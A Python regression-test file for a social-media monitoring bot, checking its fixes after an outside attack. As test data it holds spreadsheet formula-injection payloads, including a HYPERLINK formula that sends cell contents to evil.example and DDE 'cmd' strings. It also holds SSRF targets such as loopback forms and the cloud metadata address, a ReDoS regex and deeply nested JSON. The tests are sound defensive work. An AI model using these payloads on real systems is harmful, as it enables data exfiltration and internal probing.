"""Regression tests for the findings of the outside attack on the running bot (issue #16), one or more each.

Findings 1, 2, 8 and 13 came through Telegram and are tested through the fake Bot API in
tests/test_attack_telegram.py; the rest are here, each test named after what the attacker did.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from bot.csvfile import csv_bytes, safe_cell
from bot.render import discord as discord_render
from bot.render import telegram as telegram_render
from bot.render.text import render_text
from bot.reply import Reply
from handlers.cases.commands import commands as case_commands
from handlers.monitor.slot import MONITOR
from storage.models import Role
from tests.fakes.monitor import Clock, make_post, start_monitor_bot
from tests.harness import BotHarness
from tests.reliability.nasty import NASTY

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\x00=1+1", "\u202e=1+1"]
BIDI_OR_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def _cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _runnable(cell: str) -> bool:
    """Whether a spreadsheet would run the cell as a formula."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d+)?%?", cell)


# --------------------------------------------------------------------------- 3. CSV formula injection
def test_3_no_module_writes_csv_but_the_one_writer() -> None:
    writers = [str(p.relative_to(ROOT)) for folder in ("bot", "handlers", "storage")
               for p in (ROOT / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert writers == ["bot/csvfile.py"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_3_the_csv_writer_neutralises_formulas(payload: str) -> None:
    cells = _cells(csv_bytes(["h", "n"], [[payload, -12], ["ok", "+3.5"]]))
    assert not any(_runnable(c) for c in cells), cells
    assert cells[3] == "-12" and cells[5] == "+3.5"  # numbers stay numbers
    assert safe_cell(payload).lstrip("'") != ""


async def test_3_digest_csv_and_wide_table_attachments_are_neutralised(tmp_path: Path) -> None:
    clock = Clock()
    bot, _ = await start_monitor_bot(tmp_path, clock)
    try:
        await bot.run("/watch add lockbit")
        monitor = bot.services.shared.get(MONITOR)
        await monitor.ingest([make_post(f"f{i}", f"{f} lockbit", author=f[:60]) for i, f in enumerate(FORMULAS)])
        clock.advance(hours=1)
        [digest] = [a for r in await bot.run("/digest now") for a in r.attachments if a.filename == "digest.csv"]
    finally:
        await bot.stop()
    cells = _cells(digest.data)
    assert any("HYPERLINK" in c for c in cells) and not any(_runnable(c) for c in cells)
    wide = Reply().table(["who", "what"], [(f, "x" * 400) for f in FORMULAS * 20], title="network")
    attachments = [m.data for m in telegram_render.render(wide, {}) if m.filename.endswith(".csv")]
    attachments += [data for m in discord_render.render(wide, {}) for name, data in m.files if name.endswith(".csv")]
    assert len(attachments) == 2
    for data in attachments:
        cells = _cells(data)
        assert "'+cmd|' /C calc'!A0" in cells and not any(_runnable(c) for c in cells)


# --------------------------------------------------------------------------- 15. exports stay inert
async def test_15_exports_drop_control_and_bidi_characters_and_gexf_parses(tmp_path: Path) -> None:
    bot = BotHarness(tmp_path, sets=[case_commands])
    await bot.start()
    try:
        await bot.run("/case new hostile \u202egnp.exe\x1b[31m")
        for i, text in enumerate(s[:300] for s in NASTY if s.strip()):
            await bot.run(f"/case add username:user{i}{text[:40].split()[0] if text.split() else ''}",
                          role=Role.ANALYST)
            await bot.run(f"/case note {text}", role=Role.ANALYST)
            await bot.run(f"/case tag username:user{i} {text[:20].split()[0] if text.split() else 'x'}",
                          role=Role.ANALYST)
        await bot.run("/case note \ud800 lone \x00 surrogate \x0c \ufffe", role=Role.ANALYST)
        exports = {}
        for fmt in ("gexf", "md", "json", "csv", "stix", "html"):
            [file] = [a for r in await bot.run(f"/case export {fmt}") for a in r.attachments]
            exports[fmt] = file.data
    finally:
        await bot.stop()
    root = ET.fromstring(exports["gexf"])  # well-formed XML whatever the case holds
    assert root.tag.endswith("gexf") and len(root.findall(".//{*}node")) >= 10
    with zipfile.ZipFile(io.BytesIO(exports.pop("csv"))) as archive:
        texts = [archive.read(n).decode("utf-8-sig") for n in archive.namelist()]
    texts += [data.decode("utf-8") for fmt, data in exports.items()]
    for text in texts:
        assert not BIDI_OR_CONTROL.search(text.replace("\r\n", "\n"))
    assert any("lone" in t for t in texts)


# --------------------------------------------------------------------------- 5, 6. credentials in URLs
DB_PASSWORD = "Db-Passw0rd-9c1f"
BOT_TOKEN = "7654321098:AAHechoedTokenFromTheUpstream_x1"


def test_5_config_check_masks_the_database_password_and_url_credentials(tmp_path: Path) -> None:
    from tests.test_cli import socmint

    env = {"SOCMINT_DATABASE__URL": f"postgresql+psycopg://socmint:{DB_PASSWORD}@db.internal:5432/socmint",
           "SOCMINT_SOURCES__LEMMY__BASE_URL": "https://feeduser:feedpass-77@feeds.example/?token=tok-123-abc",
           "SOCMINT_TELEGRAM__TOKEN": BOT_TOKEN}
    result = socmint("config", "check", cwd=tmp_path, env=env)
    assert result.returncode == 0, result.stderr
    out = result.stdout + result.stderr
    for secret in (DB_PASSWORD, "feedpass-77", "tok-123-abc", BOT_TOKEN):
        assert secret not in out
    assert "postgresql+psycopg://socmint:***@db.internal:5432/socmint" in out
    assert "https://feeduser:***@feeds.example/?token=***" in out


async def test_5_6_recent_errors_are_masked_before_they_are_stored(tmp_path: Path) -> None:
    from handlers import basics

    bot = BotHarness(tmp_path, sets=[basics.commands], telegram={"token": BOT_TOKEN},
                     sources={"lemmy": {"base_url": f"https://u:{DB_PASSWORD}@feeds.example"}})
    await bot.start()
    try:
        # an upstream that echoes the request path, and a driver that quotes its URL
        bot.services.record_error("telegram", f"HTTP 502: bad gateway for GET /bot{BOT_TOKEN}/getUpdates")
        bot.services.record_error("poll rss", "cannot connect to postgresql://bot:hunter2-pw@10.0.0.5/db "
                                              "and https://x.example/feed?api_key=k-999&page=2")
        bot.services.record_error("poll rss", f"feed said {DB_PASSWORD}")
        stored = " ".join(e.message for e in bot.services.errors)
        replies = await bot.run("/status")
    finally:
        await bot.stop()
    shown = stored + "".join(render_text(r) for r in replies)
    shown += "".join(m.html + m.data.decode("utf-8-sig", "replace") for r in replies
                     for m in telegram_render.render(r, {}))
    for secret in (BOT_TOKEN, "hunter2-pw", "k-999", DB_PASSWORD):
        assert secret not in shown
    assert "postgresql://bot:***@10.0.0.5/db" in stored and "api_key=***&page=2" in stored


# --------------------------------------------------------------------------- 7. private data files
def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_7_data_dir_database_backups_exports_attachments_and_config_are_private(tmp_path: Path) -> None:
    from tests.test_cli import socmint

    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    data.chmod(0o755)  # made by hand before the first start: tightened
    env = {"SOCMINT_SOURCES__RSS__ENABLED": "false"}
    assert socmint("init", cwd=tmp_path).returncode == 0
    result = socmint("console", cwd=tmp_path, env=env,
                     stdin="/case new private\n/case add username:alice\n/case export csv\n/status\n")
    assert result.returncode == 0, result.stderr
    assert socmint("backup", str(tmp_path / "data" / "backups" / "b.db"), cwd=tmp_path).returncode == 0
    assert socmint("export-data", "--out", str(tmp_path / "data" / "export"), cwd=tmp_path).returncode == 0
    assert socmint("case", "export", "1", "--format", "json", "--out", str(tmp_path / "case.json"),
                   cwd=tmp_path).returncode == 0
    assert _mode(tmp_path / "socmint.toml") == 0o600 and _mode(tmp_path / "case.json") == 0o600
    dirs = [data, *(p for p in data.rglob("*") if p.is_dir())]
    files = [p for p in data.rglob("*") if p.is_file()]
    names = {p.name for p in files}
    assert {"socmint.db", "b.db", "manifest.json", "audit.jsonl"} <= names
    assert any(p.parent.name == "attachments" for p in files)
    assert {p.name: oct(_mode(p)) for p in dirs if _mode(p) != 0o700} == {}
    assert {p.name: oct(_mode(p)) for p in files if _mode(p) != 0o600} == {}


async def test_7_the_app_makes_its_files_private_whatever_the_umask(tmp_path: Path) -> None:
    import os

    old = os.umask(0o022)
    try:
        bot = BotHarness(tmp_path, database={"url": f"sqlite:///{tmp_path / 'data' / 'db' / 'socmint.db'}"})
        await bot.start()
        await bot.run("/whoami")
        db_dir = tmp_path / "data" / "db"
        wal = db_dir / "socmint.db-wal"
        assert wal.exists()
        modes = {p.name: _mode(p) for p in db_dir.iterdir()}
        await bot.stop()
    finally:
        os.umask(old)
    assert _mode(tmp_path / "data") == 0o700 and _mode(db_dir) == 0o700
    assert modes == {name: 0o600 for name in modes} and {"socmint.db", "socmint.db-wal", "socmint.db-shm"} <= set(modes)


# --------------------------------------------------------------------------- 12. everything audited
async def test_12_forged_buttons_parse_errors_unknown_commands_and_oversized_messages_are_audited(
        bot: BotHarness) -> None:
    from bot.command import ChatKind, ChatRef, UserRef
    from storage import audit
    from tests.harness import RecordingSink

    await bot.run("/whoami", role=Role.VIEWER, user_id=70)
    await bot.run('/watch add "unclosed', role=Role.VIEWER, user_id=70)
    await bot.run("/nosuchcommand with args", role=Role.VIEWER, user_id=70)
    await bot.run("/watch", role=Role.VIEWER, user_id=70)
    await bot.run("/" + "A" * 5000, role=Role.VIEWER, user_id=70)
    await bot.app.router.press(ChatRef("telegram", -5001, ChatKind.GROUP), UserRef("telegram", 70), "forged-tok",
                               RecordingSink())
    await bot.run("/nosuch", role=None, allowed=False, user_id=71, chat_id=-71)  # a stranger, elsewhere
    entries = await bot.services.db.run(lambda s: audit.recent(s, 20))
    seen = {(e.user, e.command, e.outcome, e.detail.split(":")[0].split(" (")[0]) for e in entries}
    assert {("telegram:70", "/watch", "invalid", "could not read it"),
            ("telegram:70", "nosuchcommand", "invalid", "unknown command"),
            ("telegram:70", "watch", "invalid", "no such subcommand"),
            ("telegram:70", "(oversized)", "refused", "message of 5001 characters"),
            ("telegram:70", "(button)", "refused", "no such button"),
            ("telegram:71", "nosuch", "refused", "unknown command; chat not allowed")} <= seen
    unknown = next(e for e in entries if e.command == "nosuchcommand")
    assert unknown.args == "with args"


# --------------------------------------------------------------------------- decided: who changes roles
async def test_decided_only_an_owner_changes_an_admins_role(bot: BotHarness) -> None:
    from storage import identity

    await bot.run("/whoami", role=Role.ADMIN, user_id=80)
    await bot.run("/whoami", role=Role.ADMIN, user_id=81)
    refusal = await bot.text("/role telegram:81 viewer", role=Role.ADMIN, user_id=80)
    assert "only an owner changes an admin's role" in refusal
    assert "only an owner" in await bot.text("/role telegram:80 viewer", role=Role.ADMIN, user_id=80)
    role = await bot.services.db.run(lambda s: identity.get_user(s, "telegram", 81).role)  # type: ignore[union-attr]
    assert role == Role.ADMIN
    assert "admin to viewer" in await bot.text("/role telegram:81 viewer", role=Role.OWNER, user_id=82)
    assert "viewer to analyst" in await bot.text("/role telegram:81 analyst", role=Role.ADMIN, user_id=80)


# --------------------------------------------------------------------------- 9. hostile imports
async def test_9_a_lone_surrogate_or_deep_nesting_costs_its_row_not_the_import(bot: BotHarness) -> None:
    import json

    from bot.command import IncomingFile
    from handlers.imports.importer import import_file

    rows = [json.dumps({"id": "1", "text": "fine one"}),
            '{"id": "2", "text": "bad \\ud800 surrogate"}',
            json.dumps({"id": "3", "text": "deep", "extra": json.loads("[" * 100 + "]" * 100)}),
            "[" * 100_000 + "]" * 100_000,
            '{"id": "5", "text": "key", "x": {"\\udc00": 1}}',
            json.dumps({"id": "6", "text": "fine two"})]
    data = "\n".join(rows).encode()

    async def fetch() -> bytes:
        return data

    text = await bot.text("/import", role=Role.ANALYST, files=[IncomingFile("posts.jsonl", len(data), fetch)])
    assert "failed unexpectedly" not in text
    assert re.search(r"imported\s+2\n", text) and re.search(r"errors\s+4\n", text)
    for line, problem in ((2, "text: not valid Unicode"), (3, "extra: nested more than 32"),
                          (4, "nested too deeply"), (5, "x: a key is not valid Unicode")):
        assert re.search(rf"line {line}\s+.*{problem}", text), (line, text)
    export = json.dumps({"name": "c", "type": "public_channel", "id": 1, "messages": [
        {"id": 1, "type": "message", "date_unixtime": "1700000000", "text": "ok"},
        {"id": 2, "type": "message", "date_unixtime": "1700000000", "text": "x", "from": "\ud800"},
        {"id": 3, "type": "message", "date_unixtime": "1700000000", "text": "ok too"}]}).encode()
    report = await import_file(bot.services, export, "telegram", name="result.json")
    assert (report.imported, [e.where for e in report.errors]) == (2, ["c: message 2"])
    deep = b'{"messages": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert "nested too deeply" in await bot.text(
        "/import", role=Role.ANALYST, files=[IncomingFile("result.json", len(deep), lambda: _bytes(deep))])


async def _bytes(data: bytes) -> bytes:
    return data


# --------------------------------------------------------------------------- 10. one hostile feed
async def test_10_a_hostile_feed_does_not_stop_the_keyword_search_of_the_others() -> None:
    import httpx

    from tests.test_source_rss import FakeApi, feed_response, source

    hostile = (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><guid>a&#55296;b</guid>'
               b"<title>lockbit &#55296;</title><description>lockbit &#55296;</description></item></channel></rss>")
    api = FakeApi()
    api.route("/feed.xml", feed_response("advisories.rss.xml"))
    api.route("/bad.xml", httpx.Response(200, content=hostile))
    rss = source(api, ["https://forum.example/bad.xml", "https://vendor.example/feed.xml"])
    page = await rss.search(["lockbit"], None)
    assert [p.source_id for p in page.posts] == ["https://vendor.example/feed.xml#ADV-1234"]
    state = json.loads(page.cursor or "{}")
    assert list(state) == ["https://vendor.example/feed.xml"]  # the hostile feed is retried next poll


# --------------------------------------------------------------------------- 4. Mastodon paging and tokens
def _full_page(start: int) -> list[dict[str, object]]:
    return [{"id": str(i), "created_at": "2026-10-30T10:00:00Z", "content": f"<p>post {i}</p>",
             "account": {"id": "1", "acct": "admin"}} for i in range(start, start - 40, -1)]


@pytest.mark.parametrize(("link", "address"), [
    ("http://127.0.0.1:8080/api/v1/timelines/tag/osint?min_id=140", "93.184.215.20"),  # another origin
    ("https://mastodon.test.evil.example/api/v1/timelines/tag/osint?min_id=140", "93.184.215.20"),
    ("https://user:pw@mastodon.test/api/v1/timelines/tag/osint?min_id=140", "93.184.215.20"),
    ("https://mastodon.test/api/v1/timelines/tag/osint?min_id=140", "127.0.0.1"),  # same origin, now internal
])
async def test_4_mastodon_paging_links_stay_on_the_instance_and_pass_the_guard(link: str, address: str) -> None:
    from config.sources import MastodonSettings
    from handlers.lookup.ssrf import SsrfGuard
    from handlers.monitor.sources.mastodon import MastodonSource
    from tests.fakes_sources_a import FakeApi, json_response, make_fetcher

    async def resolver(host: str, port: int) -> list[str]:
        return [address]

    api = FakeApi()
    api.route("/api/v1/timelines/tag/osint", json_response(_full_page(140), headers={"Link": f'<{link}>; rel="prev"'}))
    fetcher, _ = make_fetcher(api)
    settings = MastodonSettings(instances=["https://mastodon.test"], token="instance-token", rate_per_s=1000)
    masto = MastodonSource(settings, fetcher, guard=SsrfGuard(resolver))
    page = await masto.search(["osint"], json.dumps({"https://mastodon.test|osint": "100"}))
    assert [str(r.url) for r in api.requests] == ["https://mastodon.test/api/v1/timelines/tag/osint?limit=40&min_id=100"]
    assert len(page.posts) == 40 and json.loads(page.cursor or "")["https://mastodon.test|osint"] == "140"


async def test_4_a_mastodon_token_goes_only_to_its_own_instance() -> None:
    from pydantic import ValidationError

    from config.sources import MastodonSettings
    from handlers.lookup.ssrf import SsrfGuard
    from handlers.monitor.sources.mastodon import MastodonSource
    from tests.fakes_sources_a import FakeApi, json_response, make_fetcher

    with pytest.raises(ValidationError, match="a token belongs to one instance"):
        MastodonSettings(instances=["https://a.test", "https://b.test"], token="t")
    with pytest.raises(ValidationError, match=r"is not in sources\.mastodon\.instances"):
        MastodonSettings(instances=["https://a.test"], tokens={"https://c.test": "t"})
    api = FakeApi()
    api.route("/api/v1/timelines/tag/osint", json_response([]))
    fetcher, _ = make_fetcher(api)
    settings = MastodonSettings(instances=["https://a.test", "https://b.test/"], tokens={"https://a.test/": "tok-a"},
                                rate_per_s=1000)
    await MastodonSource(settings, fetcher, guard=SsrfGuard()).search(["osint"], None)
    sent = {r.url.host: r.headers.get("authorization") for r in api.requests}
    assert sent == {"a.test": "Bearer tok-a", "b.test": None}
    from config.settings import Settings

    masked = Settings(sources={"mastodon": {"instances": ["https://a.test"], "tokens": {"https://a.test": "tok-a"}}})
    assert "tok-a" in masked.secrets()


# --------------------------------------------------------------------------- 11. username-sweep site lists
async def test_11_site_list_urls_to_internal_addresses_are_refused_never_probed(tmp_path: Path) -> None:
    import httpx

    from handlers.lookup.ssrf import SsrfGuard
    from handlers.lookup.sweep.engine import Limits, Sweeper
    from handlers.lookup.sweep.site import Rule, Site
    from handlers.lookup.sweep.verdict import Status
    from tests.sweep_farm import running_farm

    def site(name: str, url: str) -> Site:
        return Site(name, url, url, "social", Rule(frozenset({200})), (Rule(frozenset({404})),),
                    follow_redirects=True)

    async with running_farm() as farm:
        port = farm.base.rsplit(":", 1)[1]
        sites = [site("v4", f"{farm.base}/status/{{account}}"), site("v6", f"http://[::1]:{port}/status/{{account}}"),
                 site("mapped", f"http://[::ffff:127.0.0.1]:{port}/status/{{account}}"),
                 site("decimal", f"http://2130706433:{port}/status/{{account}}"),
                 site("metadata", "http://169.254.169.254/latest/{account}")]
        limits = Limits(concurrency=5, per_host=5, site_timeout_s=2, deadline_s=10)
        async with httpx.AsyncClient() as client:
            results = [r async for r in Sweeper(client, limits, SsrfGuard()).sweep("alice", sites)]
        assert farm.hits == {}  # not one request reached the loopback
    assert {r.site.name: r.status for r in results} == {s.name: Status.UNKNOWN for s in sites}
    assert all("refused by the SSRF guard" in r.reason for r in results), [r.reason for r in results]

    async def public(host: str, port: int) -> list[str]:
        return ["93.184.216.34"]

    seen: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:  # a public site that redirects inside
        seen.append(str(request.url))
        return httpx.Response(302, headers={"location": "http://127.0.0.1:8080/admin"})

    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as client:
        [result] = [r async for r in Sweeper(client, limits, SsrfGuard(public)).sweep(
            "alice", [site("hop", "https://public.example/u/{account}")])]
    assert seen == ["https://93.184.216.34/u/alice"] and result.status is Status.UNKNOWN
    assert "127.0.0.1 is a loopback address" in result.reason


def test_11_regex_checks_run_on_re2_in_linear_time() -> None:
    import re2

    from handlers.lookup.sweep.site import NotApplicable, Rule, Site, username_rule

    hostile = Site("redos", "https://x.example/{account}", "https://x.example/{account}", "social", Rule(), (),
                   username_pattern="^(a+)+$")
    with pytest.raises(NotApplicable):  # Python's re would backtrack 2^63 times on this name
        hostile.probe("a" * 63 + "!")
    assert isinstance(username_rule("^(a+)+$"), re2._Regexp)
    assert username_rule("(?=lookahead)x") is None and username_rule("a" * 2000) is None  # ignored, not fatal
    assert hostile.probe("aaaa").url == "https://x.example/aaaa"


# --------------------------------------------------------------------------- 14. /forget everywhere
async def test_14_forget_scrubs_notes_events_buttons_and_audit_and_takes_any_handle(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from sqlmodel import select

    from bot.command import ChatKind, ChatRef, UserRef
    from handlers import admin, basics, governance
    from handlers.monitor.post import Author, Post
    from storage.models import AuditEntry, ButtonToken, CaseEvent, CaseNote, StoredPost
    from tests.harness import RecordingSink

    bot = BotHarness(tmp_path, sets=[basics.commands, admin.commands, governance.commands, case_commands])
    await bot.start()
    try:
        def seed(session) -> None:  # type: ignore[no-untyped-def]
            for i, author in enumerate(["alice.bsky.social", "john doe", "evil\x07bot", "malice.example"]):
                session.add(Post(source="bluesky", source_id=str(i), text="hi", author=Author(author, author),
                                 created_at=datetime(2026, 1, 1, tzinfo=UTC)).to_row())
            session.add(ButtonToken(token="b1", command="/profile bluesky alice.bsky.social", chat="telegram:-5001"))
            session.add(ButtonToken(token="b2", command="/profile bluesky malice.example", chat="telegram:-5001"))

        await bot.services.db.run(seed)
        await bot.run("/case new leak")
        await bot.run("/case note Saw @Alice.bsky.social post the dump; malice.example too")
        await bot.run("/case add account:bluesky:alice.bsky.social", role=Role.ANALYST)
        await bot.run("/help alice.bsky.social")  # audited: args and detail both name her
        preview = await bot.run("/forget alice.bsky.social")
        [[button]] = preview[0].button_rows
        await bot.app.router.press(ChatRef("telegram", -5001, ChatKind.GROUP), UserRef("telegram", 1001),
                                   (await bot.app.router.tokens_for(preview[0], ChatRef("telegram", -5001))
                                    )[button], sink := RecordingSink())
        assert "Removed" in render_text(sink.replies[0])
        for handle in ("john doe", "evil\x07bot"):
            preview = await bot.run(f'/forget "{handle}"')
            assert preview[0].button_rows[0][0].command == f'/forget "{handle}" confirm'
            assert "Removed" in await bot.text(f'/forget "{handle}" confirm')

        def state(session):  # type: ignore[no-untyped-def]
            return ([n.text for n in session.exec(select(CaseNote))],
                    [e.detail for e in session.exec(select(CaseEvent))],
                    [b.token for b in session.exec(select(ButtonToken)) if b.token in ("b1", "b2")],
                    [f"{a.command} {a.args} {a.detail}" for a in session.exec(select(AuditEntry))],
                    sorted(p.author_handle for p in session.exec(select(StoredPost))))

        notes, events, buttons, audit_rows, authors = await bot.services.db.run(state)
    finally:
        await bot.stop()
    assert notes == ["Saw [forgotten] post the dump; malice.example too"]
    assert buttons == ["b2"] and authors == ["malice.example"]
    blob = "\n".join(events + audit_rows).lower()
    assert "alice.bsky.social" not in blob and "john doe" not in blob and "evil\x07bot" not in blob
    assert "forget (arguments not kept)" in blob
    assert "saw [forgotten] post the dump; malice.example too" in blob  # the event that logged the note, redacted


# --------------------------------------------------------------------------- decided: /status for viewers
async def test_decided_status_shows_viewers_health_and_their_own_chats_errors_only(bot: BotHarness) -> None:
    bot.services.record_error("/lookup", "ValueError (ref aaa111)", "telegram:-5001")
    bot.services.record_error("/lookup", "KeyError (ref bbb222)", "telegram:-6002")  # another chat's
    bot.services.record_error("poll rss", "HTTP 503")  # the service's, no chat
    viewer = await bot.text("/status", role=Role.VIEWER, user_id=90)
    assert "aaa111" in viewer and "bbb222" not in viewer and "HTTP 503" not in viewer
    assert "uptime" in viewer and "Sources" in viewer
    for admin_only in ("allowed chats", "scheduled jobs", "database", "Monitoring", "Governance", "refusals silenced"):
        assert admin_only not in viewer, admin_only
    assert "shown to admins" in viewer
    admin = await bot.text("/status", role=Role.ADMIN, user_id=91)
    assert all(s in admin for s in ("aaa111", "bbb222", "HTTP 503", "allowed chats", "Monitoring", "Governance"))


# --------------------------------------------------------------------------- decided: watch terms per user
async def test_decided_one_persons_watch_terms_are_capped_across_chats(tmp_path: Path) -> None:
    from storage import watches

    bot = BotHarness(tmp_path, governance={"max_watch_terms_per_user": 6})
    await bot.start()
    try:
        assert "added" in await bot.text("/watch add a OR b OR c", role=Role.ANALYST, user_id=95)
        assert "added" in await bot.text("/watch add d e", role=Role.ANALYST, user_id=95, chat_id=-6001)
        refusal = await bot.text("/watch add f OR g", role=Role.ANALYST, user_id=95, chat_id=-6002)
        assert "hold 5 query terms and this one adds 2" in refusal and "max_watch_terms_per_user" in refusal
        assert "added" in await bot.text("/watch add f", role=Role.ANALYST, user_id=95, chat_id=-6002)
        assert "added" in await bot.text("/watch add f OR g", role=Role.ANALYST, user_id=96)  # someone else
        held = await bot.services.db.run(lambda s: len(watches.created_by(s, "telegram:95")))
    finally:
        await bot.stop()
    assert held == 3


# --------------------------------------------------------------------------- decided: one shared store
async def test_decided_imported_posts_are_one_store_for_every_allowed_chat_and_the_import_says_so(
        bot: BotHarness) -> None:
    from bot.command import IncomingFile

    data = b'{"id": "1", "text": "leaked creds", "author": "mallory", "source": "forum"}\n'

    async def fetch() -> bytes:
        return data

    text = await bot.text("/import", role=Role.ANALYST, files=[IncomingFile("dump.jsonl", len(data), fetch)])
    assert "join the bot's shared store: every allowed chat can analyse them" in text
    elsewhere = await bot.text("/profile forum mallory", role=Role.ANALYST, user_id=97, chat_id=-6003)
    assert "mallory" in elsewhere and "1 post" in elsewhere
    stranger = await bot.text("/profile forum mallory", role=None, allowed=False, user_id=98, chat_id=-6004)
    assert "not allowed" in stranger and "leaked" not in stranger


# --------------------------------------------------------------------------- 16. docs agree with the defaults
def _default(path: str) -> object:
    from config.settings import Settings

    value: object = Settings()
    for part in path.split("."):
        value = getattr(value, part)
    return value


def test_16_documented_defaults_are_the_real_defaults() -> None:
    import tomllib

    docs = (ROOT / "docs" / "SECURITY.md").read_text(encoding="utf-8")
    claims = re.findall(r"`([a-z_]+(?:\.[a-z_]+)+)`\s+\(default\s+([0-9.]+)\)", docs)
    retention = re.findall(r"\|\s*(\d+) days[^|]*\|\s*`(?:governance\.retention\.)?([a-z_]+_days)`\s*\|", docs)
    claims += [(f"governance.retention.{name}", days) for days, name in retention]
    documented = {path for path, _ in claims}
    assert {"governance.rate_limits.per_user", "governance.rate_limits.per_chat", "governance.rate_limits.window_s",
            "governance.rate_limits.stranger_refusals", "governance.rate_limits.stranger_refusals_total",
            "governance.max_watch_terms_per_user", "governance.retention.audit_days"} <= documented
    wrong = {path: (said, _default(path)) for path, said in claims if float(said) != float(_default(path))}  # type: ignore[arg-type]
    assert wrong == {}
    # the config file `socmint init` writes says the same as the code
    written = tomllib.loads((ROOT / "config" / "default.toml").read_text(encoding="utf-8"))["governance"]
    for section, values in written.items():
        for key, value in values.items() if isinstance(values, dict) else [(section, values)]:
            path = f"governance.{section}.{key}" if isinstance(values, dict) else f"governance.{key}"
            assert _default(path) == value, path


async def test_10_json_nested_too_deep_is_a_malformed_answer_not_a_crash() -> None:
    """Found by the soak run with the new hostile payloads: sources and providers parse upstream JSON."""
    import httpx

    from handlers.fetch import FetchError
    from handlers.monitor.sources.payload import json_body
    from tests.fakes_sources_a import FakeApi, make_fetcher

    fetcher, _ = make_fetcher(FakeApi())
    deep = httpx.Response(200, content=b"[" * 100_000 + b"]" * 100_000, request=httpx.Request("GET", "https://x/"))
    with pytest.raises(FetchError, match="not valid JSON"):
        json_body(fetcher, "hackernews", deep)
